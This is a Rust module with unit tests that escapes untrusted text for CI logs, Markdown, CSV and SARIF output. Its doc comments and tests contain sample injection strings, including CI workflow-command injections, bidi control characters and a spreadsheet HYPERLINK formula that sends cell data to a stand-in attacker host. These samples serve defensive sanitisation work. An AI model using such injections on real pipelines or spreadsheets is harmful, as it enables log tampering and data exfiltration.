//! The one place that makes model text inert wherever it is shown: a terminal or CI log
//! ([`line`]), Markdown for a pull-request comment or a wiki ([`md_inline`],
//! [`md_block`]), a CSV cell a spreadsheet opens ([`csv_cell`]), an id in SARIF
//! ([`sarif_id`]).
//!
//! Why one module: teams run `check`, `analyze`, `diff`, `verify` and `import` in CI on
//! pull requests from forks, so every name, title and description in a model may be
//! written by a stranger. A name holding a newline and `::error::` would be a GitHub
//! Actions workflow command in the log; `<!--` would hide the rest of a PR comment; `@team`
//! would notify people; `=HYPERLINK(…)` would run in a spreadsheet. Each output format
//! escaping on its own drifted apart (three Markdown escapers, each missing something), so
//! every output asks this module instead.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::path::Path;

/// Characters never shown as themselves: C0 and C1 controls (CR, LF, tab, ESC …), the
/// Unicode line and paragraph separators, the bidirectional overrides and isolates that
/// reorder what a reader sees ("Trojan Source"), and the zero-width characters that hide
/// text. Zero-width joiners are left alone: emoji sequences use them and they hide nothing.
fn is_hidden_or_breaking(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{2028}'
                | '\u{2029}'
                | '\u{061c}'
                | '\u{200e}'
                | '\u{200f}'
                | '\u{202a}'..='\u{202e}'
                | '\u{2066}'..='\u{2069}'
                | '\u{200b}'
                | '\u{2060}'
                | '\u{feff}'
        )
}

/// `c` as Rust writes it in a string literal: `\n`, `\r`, `\t`, `\0`, else `\u{…}`.
fn push_visible(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        '\0' => out.push_str("\\0"),
        c => {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        }
    }
}

/// Text for a terminal or a CI log: always one line, with control, separator, bidi and
/// zero-width characters shown escaped (`\n`, `\u{202e}`), so no line of output can be
/// split, reordered or recoloured by model text. What a CI runner reads as a command is
/// defused too: text starting (after spaces) with `::name …::` (GitHub Actions), and
/// `##[` or `##vso[` anywhere (GitHub's older form, Azure Pipelines).
pub fn line(s: &str) -> Cow<'_, str> {
    if !s.chars().any(is_hidden_or_breaking) && !s.contains("::") && !s.contains("##") {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if is_hidden_or_breaking(c) {
            push_visible(&mut out, c);
        } else {
            out.push(c);
        }
    }
    defuse_log_commands(&mut out);
    if out == s {
        Cow::Borrowed(s)
    } else {
        Cow::Owned(out)
    }
}

/// A path for a terminal or log line, as [`line`] shows text.
pub fn path(p: &Path) -> String {
    line(&p.display().to_string()).into_owned()
}

/// A runner takes a line whose text starts (after white space) with `::NAME …::` as a
/// workflow command, and one holding `##[NAME]` or `##vso[` anywhere as a command of the
/// older kind; one character of each is shown escaped instead.
fn defuse_log_commands(out: &mut String) {
    let start = out.len() - out.trim_start().len();
    if out[start..].starts_with("::") && out[start + 2..].contains("::") {
        out.replace_range(start..start + 1, "\\u{3a}");
    }
    defuse_hash_commands(out, "\\u{23}");
}

/// `##[` and `##vso[` (GitHub's older workflow commands and Azure Pipelines' logging
/// commands, read anywhere on a line) with their second `#` replaced by `second`.
fn defuse_hash_commands(out: &mut String, second: &str) {
    let mut at = 0;
    while let Some(found) = out[at..].find("##") {
        let i = at + found;
        let rest = &out[i + 2..];
        let command = rest.starts_with('[')
            || rest
                .get(..4)
                .is_some_and(|r| r.eq_ignore_ascii_case("vso["));
        if command {
            out.replace_range(i + 1..i + 2, second);
            at = i + 1 + second.len();
        } else {
            at = i + 1;
        }
    }
}

/// JSON text (a report, a diff, SARIF) that may be printed into a CI log: `#` of a `##[` or
/// `##vso[` written as `\u0023`, which parses back to the very same string. (JSON keeps
/// every line break inside strings escaped already, so no line can start with `::`.)
pub fn json_for_log(mut json: String) -> String {
    if json.contains("##") {
        defuse_hash_commands(&mut json, "\\u0023");
    }
    json
}

/// Put where a Markdown renderer would otherwise start a link or a mention: a zero-width
/// space changes nothing a reader sees, but `@​name`, `https​://` and `www​.` no longer
/// match GitHub's mention filter or any GFM autolink rule. (An entity such as `&#64;` does
/// not help: it is decoded before GitHub looks for mentions.)
const LINK_BREAK: char = '\u{200b}';

/// One piece of user text inside a line of Markdown (a table cell, a list item, a
/// heading) shown as written and never as markup, by GitHub, GitLab or any CommonMark/GFM
/// renderer:
/// - HTML (`<`, `>`, `&`) as entities, so no tag, comment or autolink `<…>` opens;
/// - line breaks as `<br>`, so the text stays in its cell and cannot start a block;
/// - every inline markup character backslash-escaped: emphasis `*` `_`, code `` ` ``,
///   links and images `[` `]` `(` `)` `!`, table pipes `|`, strike-through `~`, headings
///   `#`, math `$`, and the backslash itself;
/// - a leading `-`, `+`, `=` or `1.` escaped, so it cannot start a list or an underline;
/// - mentions (`@name`), issue references (`#12`), e-mail addresses and bare URLs
///   (`https://`, `www.`) broken with a zero-width space so nothing links or notifies;
/// - other control, bidi and zero-width characters shown escaped, as [`line`] does.
pub fn md_inline(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + s.len() / 4 + 8);
    let chars: Vec<char> = s.chars().collect();
    let mut i = 0;
    while let Some(&c) = chars.get(i) {
        let next = |k: usize| chars.get(i + k).copied();
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\r' if next(1) == Some('\n') => {}
            '\r' | '\n' | '\u{85}' | '\u{2028}' | '\u{2029}' => out.push_str("<br>"),
            // `#123` is a link to an issue on GitHub, escaped or not.
            '#' if next(1).is_some_and(|d| d.is_ascii_digit()) => {
                out.push_str("\\#");
                out.push(LINK_BREAK);
            }
            '\\' | '`' | '*' | '_' | '[' | ']' | '(' | ')' | '!' | '|' | '~' | '#' | '$' => {
                out.push('\\');
                out.push(c);
            }
            '-' | '+' | '=' if i == 0 => {
                out.push('\\');
                out.push(c);
            }
            '.' if i > 0 && chars[..i].iter().all(char::is_ascii_digit) => {
                out.push_str("\\.");
            }
            '@' => {
                out.push('@');
                out.push(LINK_BREAK);
            }
            ':' if next(1) == Some('/') && next(2) == Some('/') => {
                out.push(LINK_BREAK);
                out.push(':');
            }
            'w' | 'W'
                if chars.get(i..i + 4).is_some_and(|w| {
                    w[..3].iter().all(|c| c.eq_ignore_ascii_case(&'w')) && w[3] == '.'
                }) =>
            {
                out.extend(&chars[i..i + 3]);
                out.push(LINK_BREAK);
                i += 3;
                continue;
            }
            c if is_hidden_or_breaking(c) => {
                out.push('\\');
                push_visible(&mut out, c);
            }
            c => out.push(c),
        }
        i += 1;
    }
    out
}

/// Multi-line user text (workshop notes) made inert like [`md_inline`], each of its lines
/// a line of its own (joined by hard line breaks). Leading white space is dropped, so no
/// line becomes an indented code block.
pub fn md_block(s: &str) -> String {
    s.replace("\r\n", "\n")
        .split(['\n', '\r', '\u{85}', '\u{2028}', '\u{2029}'])
        .map(|l| md_inline(l.trim_start()))
        .collect::<Vec<_>>()
        .join("  \n")
}

/// A CSV cell a spreadsheet will not run. Excel, LibreOffice and Google Sheets take text
/// starting with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula (CWE-1236),
/// and a reader may split cells at `,` or `;` whatever the quoting says, and skip leading
/// spaces: so the cell and every `,`/`;`/tab/line-separated part of it that starts (after
/// spaces and quotes) with one of those gets a leading apostrophe, as OWASP recommends.
/// `=HYPERLINK("http://evil.example/?"&A1,"x")` is shown as written, never followed.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
    let starts = std::iter::once(0).chain(
        s.match_indices([',', ';', '\t', '\n', '\r'])
            .map(|(i, sep)| i + sep.len()),
    );
    let mut out: Option<String> = None;
    let mut copied = 0;
    for start in starts {
        let body = s[start..].trim_start_matches([' ', '"']);
        // A line of the cell printed into a CI log must not be a workflow command either.
        let after_break = start > 0 && matches!(s.as_bytes()[start - 1], b'\n' | b'\r');
        if body.starts_with(FORMULA) || (after_break && body.starts_with("::")) {
            let o = out.get_or_insert_with(|| String::with_capacity(s.len() + 4));
            o.push_str(&s[copied..start]);
            o.push('\'');
            copied = start;
        }
    }
    let mut cell = match out {
        None => Cow::Borrowed(s),
        Some(mut o) => {
            o.push_str(&s[copied..]);
            Cow::Owned(o)
        }
    };
    if cell.contains("##") {
        // A zero-width space between the two `#`: CSV has no escape a spreadsheet undoes.
        defuse_hash_commands(cell.to_mut(), "\u{200b}#");
    }
    cell
}

/// An id, rule id or fingerprint for SARIF made from model text: ASCII letters, digits,
/// `.`, `_`, `-` and `@` (threat keys are `RULE@SUBJECT`) as they are, every other byte
/// percent-encoded, so ids stay distinct yet no line break, slash or markup reaches a
/// code-scanning view through them.
pub fn sarif_id(s: &str) -> Cow<'_, str> {
    let safe = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'@');
    if s.bytes().all(safe) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    for b in s.bytes() {
        if safe(b) {
            out.push(char::from(b));
        } else {
            let _ = write!(out, "%{b:02X}");
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_stays_one_line_and_shows_what_it_hides() {
        assert_eq!(line("Orders DB"), "Orders DB");
        assert_eq!(
            line("a\nb\r\tc\u{1b}[31m\u{2028}\u{202e}d\u{85}"),
            "a\\nb\\r\\tc\\u{1b}[31m\\u{2028}\\u{202e}d\\u{85}"
        );
        assert!(!line("x\n::error::pwned").contains('\n'));
        assert_eq!(line("家族 👨‍👩‍👧"), "家族 👨‍👩‍👧");
        assert_eq!(line(r"C:\models\shop.ron"), r"C:\models\shop.ron");
    }

    #[test]
    fn runner_commands_in_text_are_defused() {
        assert_eq!(line("::error::pwned"), "\\u{3a}:error::pwned");
        assert_eq!(line("  ::add-mask::x"), "  \\u{3a}:add-mask::x");
        assert_eq!(line("::1"), "::1", "an address is not a command");
        assert_eq!(
            line("a ::error::b"),
            "a ::error::b",
            "only at the start of a line"
        );
        assert_eq!(line("x ##[error]y"), "x #\\u{23}[error]y");
        assert_eq!(
            line("##vso[task.setvariable]"),
            "#\\u{23}vso[task.setvariable]"
        );
        assert_eq!(line("C# ## notes"), "C# ## notes");
    }

    #[test]
    fn markdown_inline_escapes_markup_and_breaks_links() {
        assert_eq!(md_inline("Orders DB"), "Orders DB");
        assert_eq!(md_inline("<!--"), "&lt;\\!--");
        assert_eq!(md_inline("a|b"), "a\\|b");
        assert_eq!(md_inline("![x](y)"), "\\!\\[x\\]\\(y\\)");
        assert_eq!(md_inline("a\r\nb\rc"), "a<br>b<br>c");
        assert_eq!(md_inline("@team"), "@\u{200b}team");
        assert_eq!(md_inline("fixes #12"), "fixes \\#\u{200b}12");
        assert_eq!(md_inline("https://x.io"), "https\u{200b}://x.io");
        assert_eq!(md_inline("WWW.x.io"), "WWW\u{200b}.x.io");
        assert_eq!(md_inline("- item"), "\\- item");
        assert_eq!(md_inline("a - b"), "a - b");
        assert_eq!(md_inline("12. x"), "12\\. x");
        assert_eq!(md_inline("v1.2"), "v1.2");
        assert_eq!(md_inline("\u{202e}"), "\\\\u{202e}");
    }

    #[test]
    fn markdown_blocks_keep_lines_and_never_start_a_block() {
        assert_eq!(md_block("a\r\nb"), "a  \nb");
        assert_eq!(md_block("a\n\nb"), "a  \n  \nb");
        assert_eq!(
            md_block("    code\n> quote\n1. one\n---"),
            "code  \n&gt; quote  \n1\\. one  \n\\---"
        );
    }

    #[test]
    fn csv_cells_and_their_parts_never_start_a_formula() {
        assert_eq!(csv_cell("Login API"), "Login API");
        assert_eq!(csv_cell("=1+1"), "'=1+1");
        assert_eq!(csv_cell(" =HYPERLINK(x)"), "' =HYPERLINK(x)");
        assert_eq!(csv_cell("Login API;=1+1;"), "Login API;'=1+1;");
        assert_eq!(csv_cell("a, @SUM(A1)"), "a,' @SUM(A1)");
        assert_eq!(csv_cell("a;\"=1\""), "a;'\"=1\"");
        assert_eq!(csv_cell("high; reachable"), "high; reachable");
        assert_eq!(csv_cell("a\n::error::x"), "a\n'::error::x");
        assert_eq!(csv_cell("a ##[error]x"), "a #\u{200b}#[error]x");
    }

    #[test]
    fn json_keeps_its_strings_but_not_runner_commands() {
        let json = serde_json::to_string(&"x ##[add-mask]y ##vso[z] C##").unwrap_or_default();
        let safe = json_for_log(json);
        assert!(!safe.contains("##[") && !safe.contains("##vso["), "{safe}");
        let back: String = serde_json::from_str(&safe).unwrap_or_default();
        assert_eq!(back, "x ##[add-mask]y ##vso[z] C##");
    }

    #[test]
    fn sarif_ids_keep_a_safe_alphabet() {
        assert_eq!(sarif_id("STRIDE-S-1@el_7k2m"), "STRIDE-S-1@el_7k2m");
        assert_eq!(sarif_id("a/b\n::x"), "a%2Fb%0A%3A%3Ax");
    }
}
